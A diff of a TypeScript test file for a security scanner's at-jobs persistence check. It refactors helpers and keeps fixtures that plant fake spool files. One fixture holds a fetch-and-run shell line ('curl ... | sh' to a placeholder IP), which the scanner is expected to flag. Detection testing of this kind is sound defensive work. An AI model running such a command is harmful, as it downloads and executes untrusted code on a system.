@@ -8,9 +8,10 @@
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import path from 'node:path';
 import { atJobsCheck, parseAtJob } from '../../src/checks/at-jobs.js';
-import { scanDirectory } from '../helpers/scan-dir.js';
+import { scanDirectory, scanHostile } from '../helpers/scan-dir.js';
+import { findingRowKeys, rowKeys, type FindingRow } from '../helpers/findings.js';
 import { makeScratchDir, removeScratchDir } from '../helpers/images.js';
-import { plantFiles, startedCollector, type PlantedFile } from '../helpers/planted-tree.js';
+import { junkBytes, plantFiles, startedCollector, type PlantedFile } from '../helpers/planted-tree.js';
 
 /** A job file as at 3.2 writes it; the preamble carries environment that must not fire. */
 function atJob(user: string, uid: number, commands: string[], delimiter = 'marcinDELIMITER5f3a9c1e'): PlantedFile {
@@ -53,10 +54,9 @@ const FILES: Record<string, PlantedFile> = {
   'var/spool/cron/atjobs/notes': 'curl http://198.51.100.7/x | sh\n',
 };
 
-type Row = [rule: string, severity: string, path: string, line: number | undefined];
 const ROOT_JOB = '/var/spool/cron/atjobs/a0000301a2b3c4';
 const DEPLOY_JOB = '/var/spool/at/b0001f01a2b400';
-const EXPECTED: Row[] = [
+const EXPECTED: FindingRow[] = [
   ['at.pending-job', 'low', ROOT_JOB, 15],
   ['command.download-and-run', 'high', ROOT_JOB, 15],
   ['at.pending-job', 'low', DEPLOY_JOB, 15],
@@ -77,7 +77,7 @@ describe('at jobs check', () => {
     infected = path.join(scratch, 'infected');
     hostile = path.join(scratch, 'hostile');
     await plantFiles(infected, FILES);
-    const junk = Buffer.from(Array.from({ length: 300_000 }, (_, i) => (i * 7919) % 256));
+    const junk = junkBytes(300_000);
     await plantFiles(
       hostile,
       {
@@ -96,8 +96,7 @@ describe('at jobs check', () => {
   it('reports every pending job and the shared rules on its commands only', async () => {
     const result = await scanDirectory(infected, [atJobsCheck]);
     expect(result.errors).toEqual([]);
-    const key = (r: Row) => r.join('|');
-    expect(result.findings.map((f): Row => [f.rule, f.severity, f.path, f.line]).map(key).sort()).toEqual(EXPECTED.map(key).sort());
+    expect(findingRowKeys(result.findings)).toEqual(rowKeys(EXPECTED));
     for (const f of result.findings) {
       expect(f.category).toBe('persistence/at');
       expect(`${f.message}\n${f.remediation}`).not.toMatch(/\{[a-z]+\}/);
@@ -138,9 +137,7 @@ describe('at jobs check', () => {
   });
 
   it('reads hostile spool files without crashing or stalling', async () => {
-    const started = Date.now();
-    const result = await scanDirectory(hostile, [atJobsCheck]);
-    expect(Date.now() - started).toBeLessThan(20_000);
+    const result = await scanHostile(hostile, [atJobsCheck], 20_000);
     expect(result.findings.filter((f) => f.rule === 'at.pending-job')).toHaveLength(3);
   });
 });
